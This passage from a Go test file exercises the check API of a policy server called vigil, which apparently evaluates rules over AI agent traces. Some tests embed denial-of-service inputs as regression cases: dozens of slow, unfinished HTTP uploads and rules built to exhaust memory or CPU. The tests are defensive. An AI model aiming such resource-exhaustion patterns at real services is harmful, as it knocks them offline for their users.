	each := "raise PolicyViolation(\"each\", m, n=1) if:\n    (m: Message)\n"
	res, err := ts.c.Check(ctx, client.CheckRequest{Messages: msgs, Policy: each})
	if err != nil || len(res.Errors) != 3 || res.Errors[0].Key != "(0, (0,))" || res.Errors[0].Kwargs["n"] != float64(1) ||
		res.Errors[2].Ranges[0] != "messages.2" || res.Failures == nil || res.Warnings == nil {
		t.Fatalf("Check: %v %+v", err, res)
	}
	two := 2
	res, err = ts.c.Check(ctx, client.CheckRequest{Messages: msgs, Policy: each, FromIndex: &two})
	if err != nil || len(res.Errors) != 1 || res.Errors[0].Key != "(0, (2,))" {
		t.Fatalf("Check pending: %v %+v", err, res)
	}
	res, err = ts.c.Check(ctx, client.CheckRequest{Messages: msgs, Policy: "raise \"p\" if:\n    (m: Message)\n    input.word in m.content\n", Parameters: map[string]any{"word": "b"}})
	if err != nil || len(res.Errors) != 1 || res.Errors[0].Ranges[1] != "messages.1.content:0-1" {
		t.Fatalf("Check with parameters: %v %+v", err, res)
	}
	_, err = ts.c.Check(ctx, client.CheckRequest{Messages: msgs, Policy: "raise \"p\" if:\n    (m: Message)\n    input.word in m.content\n"})
	var ae *client.APIError
	if !errors.As(err, &ae) || ae.StatusCode != 400 || !strings.HasPrefix(ae.Detail, prefixMissingParameter) {
		t.Fatalf("Check without the parameter: %v", err)
	}
	batch, err := ts.c.CheckBatch(ctx, client.BatchRequest{Messages: msgs, Policies: []string{each, "raise"}, DatasetName: "d"})
	if err != nil || len(batch) != 2 || !batch[0].Success || len(batch[0].Errors) != 3 || batch[1].Success ||
		!strings.HasPrefix(batch[1].ErrorMessage, prefixLoad) || batch[1].Policy != "raise" {
		t.Fatalf("CheckBatch: %v %+v", err, batch)
	}
	if err := ts.c.LoadPolicy(ctx, each); err != nil {
		t.Fatalf("LoadPolicy: %v", err)
	}
	err = ts.c.LoadPolicy(ctx, "raise \"x\" if:\n    (m: Mesage)\n")
	if !errors.As(err, &ae) || ae.Code != "policy_invalid" || !strings.HasPrefix(ae.Detail, prefixLoad) {
		t.Fatalf("LoadPolicy of an invalid rule: %v", err)
	}
	items, _ := ae.Body["errors"].([]any)
	if len(items) != 1 || items[0].(map[string]any)["line"] != float64(2) || items[0].(map[string]any)["column"] != float64(9) {
		t.Errorf("load error items %v, want line 2 column 9", ae.Body["errors"])
	}
}

// TestAppendJSON: the hand-built result encoding writes what encoding/json
// (without HTML escaping) writes, for strings that need escaping, numbers,
// nil lists and maps, and nested ordered maps too.
func TestAppendJSON(t *testing.T) {
	for _, v := range []any{"plain", "a<b>&c", `quote" and \`, "tab\tnl\n", "\u2028\u2029", "\xff\xfe", "é ✓", "\x7f", "",
		[]string{"a", "b\"c"}, []string(nil), []int{1, 2}, nil, 1.5, map[string]any{"k": "<v>"}} {
		var want bytes.Buffer
		enc := json.NewEncoder(&want)
		enc.SetEscapeHTML(false)
		if err := enc.Encode(v); err != nil {
			t.Fatal(err)
		}
		var err error
		got := appendJSON(nil, v, &err)
		if err != nil || string(got) != strings.TrimSuffix(want.String(), "\n") {
			t.Errorf("appendJSON(%#v) = %s (%v), want %s", v, got, err, want.String())
		}
	}
	server := "mcp<1>"
	for _, v := range []any{
		builtin.OrderedMap{{Key: "a\"b", Value: []any{int64(-3), 1.5, nil, true, "x&y", json.Number("12345678901234567890")}},
			{Key: "nested", Value: builtin.OrderedMap{{Key: "server", Value: &server}, {Key: "none", Value: (*string)(nil)}, {Key: "list", Value: []any(nil)}}},
			{Key: "\u2028", Value: builtin.OrderedMap{}}},
		[]any{builtin.OrderedMap(nil), []any{}, "\xff", 1e21},
	} {
		var want bytes.Buffer
		enc := json.NewEncoder(&want)
		enc.SetEscapeHTML(false)
		if err := enc.Encode(v); err != nil {
			t.Fatal(err)
		}
		var err error
		got := appendValue(nil, v, &err)
		if err != nil || string(got) != strings.TrimSuffix(want.String(), "\n") {
			t.Errorf("appendValue(%#v) =\n%s (%v), want\n%s", v, got, err, want.String())
		}
	}
}

// TestCheckSlowSendersHoldNoPlace: requests still sending their bodies do
// not take places in the evaluation pool, so a client that opens many
// slow uploads cannot make the check API refuse everyone else.
func TestCheckSlowSendersHoldNoPlace(t *testing.T) {
	ts := newTestServer(t, openSQLite(t), func(c *Config) { c.CheckConcurrency = 1 })
	addr := strings.TrimPrefix(ts.URL, "http://")
	for range 40 { // more than the 17 places of a one-slot pool
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { conn.Close() })
		fmt.Fprintf(conn, "POST /api/v1/policy/check HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Length: 1000\r\n\r\n{\"messages\": [", adminKey)
	}
	time.Sleep(100 * time.Millisecond) // let the server read the headers
	status, body := ts.do(t, "POST", "/api/v1/policy/check", adminKey, map[string]any{"messages": threeMessages(), "policy": "raise \"x\" if:\n    (m: Message)\n"})
	if status != 200 {
		t.Errorf("check beside 40 slow uploads: %d %s, want 200", status, body)
	}
}

// TestCheckHostileBudgets: the hostile rules of issue 17 stop with a
// budget_exceeded failure in a 200 result through the check API, as in
// vigil check, and the rule after them still reports its violations (3^20
// bindings ran for minutes and grew to gigabytes; a list of a thousand
// 1 MB strings and a comprehension over it used 2 GB).
func TestCheckHostileBudgets(t *testing.T) {
	ts := newTestServer(t, openSQLite(t))
	freeVars := func(n int) string {
		var b strings.Builder
		b.WriteString("raise \"many\" if:\n")
		for i := range n {
			fmt.Fprintf(&b, "    (m%d: Message)\n", i)
		}
		return b.String() + "    1 == 1\n"
	}
	const each = "\nraise \"each\" if:\n    (m: Message)\n"
	for _, tc := range []struct{ name, rule, want string }{
		{"issue_17_free20", freeVars(20), "more than 10000 violations"},
		{"issue_17_free12", freeVars(12), "more than 10000 violations"},
		{"issue_17_comprehension_over_big_list",
			"raise \"big\" if:\n    (m: Message)\n    l := [\"x\" * 1000000] * 1000\n    len([s + \"y\" for s in l]) > 0\n", "bytes of values"},
		{"issue_17_doubling_strings",
			"raise \"big\" if:\n    (m: Message)\n    a := \"x\" * 10000000\n    b := a + a\n    len(b) > 0\n", "bytes per value"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			code, body := ts.do(t, "POST", "/api/v1/policy/check", adminKey,
				map[string]any{"messages": threeMessages(), "policy": tc.rule + each})
			if code != http.StatusOK {
				t.Fatalf("status %d: %.300s", code, body)
			}
			var out struct {
				Errors []struct {
					Args []any `json:"args"`
				} `json:"errors"`
				Failures []struct {
					Rule    int    `json:"rule"`
					Kind    string `json:"kind"`
					Message string `json:"message"`
				} `json:"failures"`
				Truncated []int `json:"truncated"`
			}
			if err := json.Unmarshal(body, &out); err != nil {
				t.Fatal(err)
			}
			if len(out.Failures) != 1 || out.Failures[0].Rule != 0 || out.Failures[0].Kind != "budget_exceeded" ||
				!strings.Contains(out.Failures[0].Message, tc.want) {
				t.Errorf("failures %+v, want one budget_exceeded of rule 0 with %q", out.Failures, tc.want)
			}
			if !slices.Equal(out.Truncated, []int{0}) {
				t.Errorf("truncated %v, want [0]", out.Truncated)
			}
			var others int
			for _, e := range out.Errors {
				if len(e.Args) == 1 && e.Args[0] == "each" {
					others++
				}
			}
			if others != 3 {
				t.Errorf("the rule after the hostile one reported %d violations, want 3", others)
			}
		})
	}
}

// TestCheckRequestMetrics: the request counter and duration histogram of
// the check route, whose cells handle keeps after the first request,
// count every request under its status code.
func TestCheckRequestMetrics(t *testing.T) {
	ts := newTestServer(t, openSQLite(t))
	body := `{"messages": [{"role": "user", "content": "hi"}], "policy": "raise \"p\" if:\n    (m: Message)\n"}`
	for range 3 {
		if st, out := ts.do(t, "POST", "/api/v1/policy/check", adminKey, body); st != 200 {
			t.Fatalf("check: %d %s", st, out)
		}
	}
	if st, out := ts.do(t, "POST", "/api/v1/policy/check", adminKey, `{"messages": []}`); st != 400 {
		t.Fatalf("check without policy: %d %s", st, out)
	}
	_, out := ts.do(t, "GET", "/api/v1/metrics", adminKey, nil)
	for _, want := range []string{
		`vigil_http_requests_total{route="/api/v1/policy/check",method="POST",code="200"} 3` + "\n",
		`vigil_http_requests_total{route="/api/v1/policy/check",method="POST",code="400"} 1` + "\n",
		`vigil_http_request_duration_seconds_count{route="/api/v1/policy/check"} 4` + "\n",
		`vigil_http_request_duration_seconds_bucket{route="/api/v1/policy/check",le="+Inf"} 4` + "\n",
	} {
		if !strings.Contains(string(out), want) {
			t.Errorf("metrics lack %q", want)
		}
	}
}

// TestCheckAdminKeyCache: the check routes take a cached admin-scope key
// without reloading its user, but an admin route still reloads it, so a
// user disabled behind the cache's back (another process) loses admin
// routes at once.
func TestCheckAdminKeyCache(t *testing.T) {
	ts := newTestServer(t, openSQLite(t))
	ctx := context.Background()
	body := `{"messages": [{"role": "user", "content": "hi"}], "policy": "raise \"p\" if:\n    (m: Message)\n"}`
	if st, out := ts.do(t, "POST", "/api/v1/policy/check", adminKey, body); st != 200 {
		t.Fatalf("check: %d %s", st, out)
	}
	k, err := ts.st.GetAPIKeyByHash(ctx, store.HashKey(adminKey))
	if err != nil {
		t.Fatal(err)
	}
	yes := true
	if _, err := ts.st.UpdateUser(ctx, k.OwnerID, store.UserUpdate{Disabled: &yes}); err != nil {
		t.Fatal(err)
	}
	if st, out := ts.do(t, "POST", "/api/v1/policy/check", adminKey, body); st != 200 {
		t.Errorf("check with the cached key: %d %s", st, out)
	}
	if st, out := ts.do(t, "GET", "/api/v1/users", adminKey, nil); st != 401 {
		t.Errorf("admin route after the user was disabled: %d %s, want 401", st, out)
	}
	if st, out := ts.do(t, "POST", "/api/v1/policy/check", adminKey, body); st != 401 {
		t.Errorf("check after the admin route dropped the key: %d %s, want 401", st, out)
	}
}

// TestCheckConcurrentResults: results encoded into pooled buffers by
// concurrent requests each come out whole, a long one and a short one
// alike, the same bytes as when sent alone.
func TestCheckConcurrentResults(t *testing.T) {
	ts := newTestServer(t, openSQLite(t))
	msgs := benchCheckTrace(t)
	var bodies []string
	for _, src := range []string{
		"raise \"each\" if:\n    (m: Message)\n",
		"raise \"tools\" if:\n    (c: ToolCall)\n    c.function.name == \"send_email\"\n",
	} {
		b, err := json.Marshal(map[string]any{"messages": json.RawMessage(msgs), "policy": src})
		if err != nil {
			t.Fatal(err)
		}
		bodies = append(bodies, string(b))
	}
	want := make([][]byte, len(bodies))
	for i, b := range bodies {
		st, out := ts.do(t, "POST", "/api/v1/policy/check", adminKey, b)
		if st != 200 {
			t.Fatalf("check %d: %d %s", i, st, out)
		}
		want[i] = out
	}
	if len(want[0]) == len(want[1]) {
		t.Fatalf("the two results should differ in length: %d", len(want[0]))
	}
	var wg sync.WaitGroup
	for g := range 6 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := range 10 {
				i := (g + j) % len(bodies)
				req, err := http.NewRequest("POST", ts.URL+"/api/v1/policy/check", strings.NewReader(bodies[i]))
				if err != nil {
					t.Error(err)
					return
				}
				req.Header.Set("Authorization", "Bearer "+adminKey)
				resp, err := ts.Client().Do(req)
				if err != nil {
					t.Error(err)
					return
				}
				out, err := io.ReadAll(resp.Body)
				resp.Body.Close()
				if err != nil || resp.StatusCode != 200 || !bytes.Equal(out, want[i]) {
					t.Errorf("check %d in goroutine %d: %d %v, %d bytes, want %d", i, g, resp.StatusCode, err, len(out), len(want[i]))
					return
				}
			}
		}()
	}
	wg.Wait()
}
